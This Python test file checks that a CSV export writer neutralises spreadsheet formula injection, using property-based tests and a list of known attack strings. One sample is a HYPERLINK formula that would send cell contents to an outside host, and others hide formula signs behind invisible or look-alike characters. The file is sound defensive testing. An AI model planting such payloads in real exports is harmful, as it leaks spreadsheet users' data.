"""No cell of a file can begin a formula, and none can end before its time."""

import csv
from io import StringIO
from unicodedata import category

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stamgast.egress import cells
from stamgast.egress.cells import line

SIGNS = "=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−"
HOSTILE = st.text(
    st.one_of(st.sampled_from(SIGNS + "\n\"',; \ufeff\u200b"), st.characters(codec="utf-8"))
)
CELLS = st.lists(
    st.one_of(HOSTILE, st.none(), st.integers(), st.floats(), st.booleans()), min_size=1
)


def begins_a_formula(text: str) -> bool:
    """As OWASP lists the signs; what a spreadsheet does not see stands before none of them."""
    seen = (one for one in text if one in SIGNS or category(one)[0] not in "CZ")
    return next(seen, "") in tuple(SIGNS)


def keeps(values: list[object]) -> None:
    """Read back by the standard library: as many cells, none a formula, each the value it was."""
    (read,) = csv.reader(StringIO(line(values), newline=""), strict=True)
    assert len(read) == len(values)
    for value, cell in zip(values, read, strict=True):
        assert not begins_a_formula(cell)
        if isinstance(value, str) and "\0" not in value:
            assert cell in (value, f"'{value}")
            assert (cell == value) or begins_a_formula(value)


@pytest.mark.failure_line(39)
@given(CELLS)
def test_no_cell_is_a_formula_and_every_cell_is_its_value(values: list[object]) -> None:
    """Line 39: a formula in a CSV export is a text there, whatever hides before its sign."""
    keeps(values)


@pytest.mark.failure_line(39)
@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org?"&A1)',
        "+31612345678",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\ufeff=1",
        " =1",
        "＝1",
        "\u202e=1",
        "\u2066=1",
        "\x01=1",
        "\xad=1",
        '"=1',
    ],
)
def test_a_known_attack_is_a_text(text: str) -> None:
    """Line 39: the forms of OWASP's list, and a quote that would end the cell."""
    keeps([text, "after"])
    assert line([text]).startswith('"')


@pytest.mark.parametrize("broken", ["unmarked", "first sign alone", "unquoted"])
def test_a_writer_that_leaves_a_rule_out_is_found(
    broken: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    if broken == "unmarked":
        monkeypatch.setattr(cells, "SIGNS", frozenset())
    elif broken == "first sign alone":
        monkeypatch.setattr(cells, "HIDDEN", frozenset())
    else:
        monkeypatch.setattr(cells, "cell", lambda value: str(value))
    with pytest.raises((AssertionError, csv.Error)):
        keeps(["=1", "\ufeff=1", 'a","=b', "＝1"])


def test_numbers_are_written_plainly_and_nothing_as_nothing() -> None:
    assert line([3.0, 2.5, True, None]) == '"3","2.5","true",""\r\n'
